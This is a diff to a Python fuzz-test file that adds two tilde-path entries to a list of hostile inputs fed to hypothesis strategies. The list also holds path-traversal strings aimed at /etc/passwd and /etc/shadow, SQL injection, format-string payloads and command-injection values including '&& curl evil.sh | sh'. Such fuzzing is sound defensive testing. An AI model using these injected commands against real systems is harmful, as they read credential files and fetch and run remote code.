@@ -44,6 +44,7 @@ HOSTILE = [
     "-h", "../../etc/passwd", "/etc/shadow", "x" * 100_000, "' OR 1=1 --", "${HOME}",
     "\u202eevil", "модель", "🚀", "\r\n--api-key x", "a b", "--", "-", "", " ", "~root",
     "|cat /etc/passwd", "&& curl evil.sh | sh", "\\", "%s%n", "\t", "data: [DONE]",
+    "~nosuchuser/models", "~/../../etc",
 ]
 hostile = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=300))
 FAST = settings(max_examples=120, deadline=None,
